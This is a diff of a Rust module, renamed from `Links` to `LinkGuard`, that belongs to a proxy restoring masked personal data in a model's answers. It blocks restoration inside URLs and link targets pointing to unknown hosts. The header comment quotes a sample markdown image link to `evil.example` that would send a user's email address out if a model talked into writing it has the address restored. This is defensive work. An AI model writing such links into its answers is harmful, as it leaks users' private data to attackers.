@@ -1,44 +1,43 @@
-//! [`Links`]: whether a place in a text lies in a URL or the target of a link, and in whose.
+//! [`LinkGuard`]: the protection of originals from whoever serves the links of a model's answer.
 //!
-//! Whatever renders a model's answer may fetch what it links to. A model that was talked into
-//! writing `![](https://evil.example/?q=[EMAIL_ADDRESS_1])` must not get the address put in. So
-//! within URLs and link targets a name is restored only if the host has been read whole and is one
-//! of the route's, or if the very URL stood in the user's or the system's own text.
+//! Whatever renders an answer may fetch what it links to. A model that was talked into writing
+//! `![](https://evil.example/?q=[EMAIL_ADDRESS_1])` must not get the address put in. So within URLs and link targets a
+//! substitute is restored only if the host has been read whole and is one of the route's, or if the very URL stood in
+//! the user's or the system's own text.
 //!
-//! Renderers differ, and browsers forgive much: tabs and newlines within URLs, backslashes, user
-//! names, entities. What is not plainly `http://host/…` or `https://host/…` therefore has no host at
-//! all here. What may be the target of a link or an attribute is followed up to what closes it, side
-//! by side with all others that are open, and with the URL that stands in the text as such, up to
-//! white space: which of them counts depends on the renderer, so all of them must allow it.
+//! Renderers differ, and browsers forgive much: tabs and newlines within URLs, backslashes, user names, entities. What
+//! is not plainly `http://host/…` or `https://host/…` therefore has no host at all here. What may be the target of a
+//! link or an attribute is followed up to its end, side by side with all other open targets and with the bare URL in the
+//! text, which ends at white space: which of them counts depends on the renderer, so all of them must allow it.
 //!
-//! What is followed is the client's view, with what has been restored in it. It takes a few bytes of
-//! state, so that it can be kept across the pieces of a stream.
+//! The guard follows the client's view, with the originals in it. It takes a few bytes of state, which are kept across
+//! the chunks of a stream.
 
 use std::collections::BTreeSet;
 
-use super::{live::Live, target::Target, url::Url};
+use super::{table::RestoreTable, target::Target, url::Url};
 
-/// URLs that stood in texts of the user or the system, as they were masked.
+/// The URLs, masked, of texts of the user or the system.
 #[derive(Default)]
-pub(super) struct Known {
+pub(super) struct KnownUrls {
     urls: BTreeSet<Box<str>>,
     longest: usize,
 }
 
-/// Longest URL that is remembered as known, in bytes.
+/// Longest known URL, in bytes.
 const MAX_URL: usize = 2048;
 
-/// Most URLs that are remembered as known.
+/// Most known URLs.
 const MAX_URLS: usize = 4096;
 
-/// Most targets that are followed at the same time.
+/// Most open targets.
 const MAX_TARGETS: usize = 8;
 
-/// How far a host is looked for behind a name that ends in an authority, in bytes.
+/// How far the end of a host is looked for behind an original that ends in an authority, in bytes.
 const MAX_TAIL: usize = 64;
 
-impl Known {
-    /// Remembers `url`.
+impl KnownUrls {
+    /// Adds `url`, unless it is too long or there are too many.
     pub(super) fn add(&mut self, url: &str) {
         let url = trimmed(url);
         if !url.is_empty() && url.len() <= MAX_URL && self.urls.len() < MAX_URLS {
@@ -51,14 +50,14 @@ impl Known {
         self.urls.contains(trimmed(url))
     }
 
-    /// Whether one of them begins with `start`.
+    /// Whether a known URL begins with `start`.
     fn may_become(&self, start: &str) -> bool {
         let from = (std::ops::Bound::Included(start), std::ops::Bound::Unbounded);
         self.urls.range::<str, _>(from).next().is_some_and(|url| url.starts_with(start))
     }
 }
 
-/// Without what belongs to the sentence around it rather than to the URL.
+/// `url` without the punctuation of the sentence around it.
 fn trimmed(url: &str) -> &str {
     url.trim_end_matches(|c: char| c.is_ascii() && is_trailing(c as u8))
 }
@@ -67,47 +66,46 @@ fn is_trailing(byte: u8) -> bool {
     b".,;:!?'\"`)}*_~|".contains(&byte)
 }
 
-/// What may become of a name.
+/// The decision on a substitute.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(super) enum Verdict {
-    /// It is restored.
+    /// The client gets the original.
     Restore,
-    /// It stays as it is.
+    /// The client gets the substitute.
     Leave,
-    /// What follows must be seen first.
+    /// The text behind it must be seen first.
     Wait,
 }
 
-/// Follows a text.
+/// The links and URLs that are open at one place of a text.
 #[derive(Clone, Default)]
-pub(super) struct Links {
-    /// The letters just read, in lower case, the last one lowest.
+pub(super) struct LinkGuard {
+    /// The word before this place, in lower case: up to 15 letters, the last one lowest.
     word: u128,
-    /// How many they are.
+    /// The letters of that word.
     letters: usize,
-    /// What stood before them.
+    /// The byte before that word.
     before_word: u8,
-    /// Whether a dot stood before them, and a letter or digit before that.
+    /// Whether a dot stands before that word, and a letter or digit before that.
     dotted: bool,
-    /// The bytes just read, the last one first.
+    /// The last two bytes, the very last first.
     last: [u8; 2],
-    /// Whether the name of an attribute that holds a URL has just been read, and nothing but white
-    /// space since.
+    /// Whether the name of an attribute that holds a URL was read, and nothing but white space since.
     attribute: bool,
     /// Whether this is within an HTML tag.
     tag: bool,
     bare: Url,
-    /// What closes the URL beside white space; 0: nothing.
+    /// The byte that closes the bare URL beside white space; 0 if there is none.
     close: u8,
-    /// Those that are open.
+    /// Open targets.
     targets: Vec<Target>,
-    /// Whether there were too many of them: nothing is restored any more.
+    /// Whether there were too many targets to follow: nothing is restored any more.
     lost: bool,
-    /// Square brackets that are open.
+    /// Open square brackets.
     brackets: u32,
     /// Whether the last one that closed had been open.
     matched: bool,
-    /// URLs with a name in them, where they are wanted.
+    /// The URLs with a substitute in them; `None` unless they are to be collected.
     collected: Option<Vec<Box<str>>>,
 }
 
@@ -139,7 +137,7 @@ const ATTRIBUTES: [u128; 11] = [
     pack("dynsrc"),
 ];
 
-/// The same, if they stand in a tag; there, handlers of events (`onerror`) do as well.
+/// Attributes that are fetched or followed in a tag, beside handlers of events (`onerror`).
 const TAG_ATTRIBUTES: [u128; 10] = [
     pack("style"),
     pack("content"),
@@ -153,21 +151,26 @@ const TAG_ATTRIBUTES: [u128; 10] = [
     pack("profile"),
 ];
 
-impl Links {
-    /// Follows a text for the URLs in it that have a name in them.
+impl LinkGuard {
+    /// A guard that allows everything, and collects the URLs with a substitute in them.
     pub(super) fn collecting() -> Self {
         Self { collected: Some(Vec::new()), ..Self::default() }
     }
 
-    /// The URLs collected, once the text has ended.
+    /// The collected URLs, at the end of the text.
     pub(super) fn finish(mut self) -> Vec<Box<str>> {
         self.end_all();
         self.collected.unwrap_or_default()
     }
 
-    /// What may become of `name`, which stands here for `original` and is followed by `rest`: all
-    /// there is, if `eof`.
-    pub(super) fn judge(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+    /// The decision on a substitute of `original` at this place, before `rest`, which is all there is if `eof`.
+    pub(super) fn judge(
+        &self,
+        table: &RestoreTable,
+        (substitute, original): (&str, &str),
+        rest: &str,
+        eof: bool,
+    ) -> Verdict {
         if self.collected.is_some() {
             return Verdict::Restore;
         }
@@ -177,27 +180,28 @@ impl Links {
         let bare = self.bare.is_none() || self.bare.allows();
         if bare && self.targets.iter().all(|target| target.allows(original)) {
             return if self.bare.is_none() {
-                self.judge_end(live, (name, original), rest, eof)
+                self.judge_end(table, (substitute, original), rest, eof)
             } else {
                 Verdict::Restore
             };
         }
-        let may_be_known = |url: &Url| live.known.may_become(&url.with(name));
+        let may_be_known = |url: &Url| table.known_urls.may_become(&url.with(substitute));
         let denied = self.targets.iter().filter(|target| !target.allows(original)).map(Target::url);
         if !bare && !may_be_known(&self.bare) || !denied.into_iter().all(may_be_known) {
             return Verdict::Leave;
         }
-        self.judge_known(live, (name, original), rest, eof)
+        self.judge_known(table, (substitute, original), rest, eof)
     }
 
-    /// A name that is itself a URL may end within its host: what follows must not go on with that.
-    fn judge_end(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+    /// The decision outside of links. An original that is a URL itself may end within its host, with which the text
+    /// behind it must not go on.
+    fn judge_end(&self, table: &RestoreTable, (substitute, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
         let is_plain = memchr::memchr2(b':', b'/', original.as_bytes()).is_none();
         if is_plain && !original.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("www.")) {
             return Verdict::Restore;
         }
         let mut after = self.clone();
-        after.put(live, name, original);
+        after.restore(table, (substitute, original));
         let is_host = |text: &str| !text.contains(['/', '?', '#']);
         let open = after.bare.is_bad() && original.rsplit("//").next().is_some_and(is_host);
         if !open && !after.bare.is_in_authority() {
@@ -215,57 +219,63 @@ impl Links {
         }
     }
 
-    /// Reads on to the ends of the URLs that the name stands in, and looks whether they are known.
-    fn judge_known(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+    /// The decision within links to other hosts: all of them must be known, up to their ends.
+    fn judge_known(
+        &self,
+        table: &RestoreTable,
+        (substitute, original): (&str, &str),
+        rest: &str,
+        eof: bool,
+    ) -> Verdict {
         let mut ahead = Self { collected: Some(Vec::new()), ..self.clone() };
-        ahead.put(live, name, original);
-        for byte in rest.bytes().take(live.known.longest + 1) {
+        ahead.restore(table, (substitute, original));
+        for byte in rest.bytes().take(table.known_urls.longest + 1) {
             if !ahead.is_marked() {
                 break;
             }
-            ahead.feed(live, &[byte], true);
+            ahead.feed(table, &[byte], true);
         }
         if ahead.is_marked() && eof {
             ahead.end_all();
         }
         if ahead.is_marked() {
-            return if rest.len() <= live.known.longest { Verdict::Wait } else { Verdict::Leave };
+            return if rest.len() <= table.known_urls.longest { Verdict::Wait } else { Verdict::Leave };
         }
         let urls = ahead.collected.unwrap_or_default();
-        let known = !urls.is_empty() && urls.iter().all(|url| live.known.contains(url));
+        let known = !urls.is_empty() && urls.iter().all(|url| table.known_urls.contains(url));
         if known { Verdict::Restore } else { Verdict::Leave }
     }
 
-    /// Whether a URL with a name in it has not ended.
+    /// Whether a URL with a substitute in it is open.
     fn is_marked(&self) -> bool {
         self.bare.is_marked() || self.targets.iter().any(|target| target.url().is_marked())
     }
 
     /// Goes on behind `text`, which the client gets as it is.
-    pub(super) fn pass(&mut self, live: &Live, text: &str) {
-        self.feed(live, text.as_bytes(), true);
+    pub(super) fn pass(&mut self, table: &RestoreTable, text: &str) {
+        self.feed(table, text.as_bytes(), true);
     }
 
-    /// Goes on behind `name`, in whose place the client gets `original`.
-    pub(super) fn put(&mut self, live: &Live, name: &str, original: &str) {
+    /// Goes on behind a substitute, in whose place the client gets the original.
+    pub(super) fn restore(&mut self, table: &RestoreTable, (substitute, original): (&str, &str)) {
         let (bare, targets) = (!self.bare.is_none(), self.targets.len());
-        self.feed(live, original.as_bytes(), false);
-        let (keep, mark) = (self.keep(live), self.collected.is_some());
+        self.feed(table, original.as_bytes(), false);
+        let (keep, mark) = (self.keep(table), self.collected.is_some());
         if !self.bare.is_none() {
-            self.bare.record(name, keep, !bare, mark);
+            self.bare.record(substitute, keep, !bare, mark);
         }
         for (at, target) in self.targets.iter_mut().enumerate() {
-            target.url_mut().record(name, keep, at >= targets, mark);
+            target.url_mut().record(substitute, keep, at >= targets, mark);
         }
     }
 
-    /// How much of a URL must be kept, to compare it with those that are known.
-    fn keep(&self, live: &Live) -> usize {
-        if self.collected.is_some() { MAX_URL } else { live.known.longest }
+    /// How many bytes of a URL must be kept, to compare it with the known ones.
+    fn keep(&self, table: &RestoreTable) -> usize {
+        if self.collected.is_some() { MAX_URL } else { table.known_urls.longest }
     }
 
-    fn feed(&mut self, live: &Live, bytes: &[u8], record: bool) {
-        let keep = if record { self.keep(live) } else { 0 };
+    fn feed(&mut self, table: &RestoreTable, bytes: &[u8], record: bool) {
+        let keep = if record { self.keep(table) } else { 0 };
         let (mut next, mut looked) = (0, 0);
         while let Some(&byte) = bytes.get(next) {
             if next >= looked && self.bare.is_none() && self.targets.is_empty() {
@@ -281,7 +291,7 @@ impl Links {
             next += 1;
             let mut at = 0;
             while let Some(target) = self.targets.get_mut(at) {
-                if target.step(byte, &live.hosts, keep) {
+                if target.step(byte, &table.hosts, keep) {
                     let target = self.targets.remove(at);
                     self.end_target(&target);
                 } else {
@@ -289,7 +299,7 @@ impl Links {
                 }
             }
             self.open_target(byte);
-            self.step_bare(byte, live, keep);
+            self.step_bare(byte, table, keep);
             self.remember(byte);
         }
     }
@@ -311,12 +321,12 @@ impl Links {
         self.last[0] == b'<' || self.last == [b'/', b'<']
     }
 
-    fn step_bare(&mut self, byte: u8, live: &Live, keep: usize) {
+    fn step_bare(&mut self, byte: u8, table: &RestoreTable, keep: usize) {
         if !self.bare.is_none() {
             if ends_url(byte) || byte == self.close {
                 self.end_bare();
             } else {
-                self.bare.step(byte, &live.hosts, keep);
+                self.bare.step(byte, &table.hosts, keep);
             }
             return;
         }
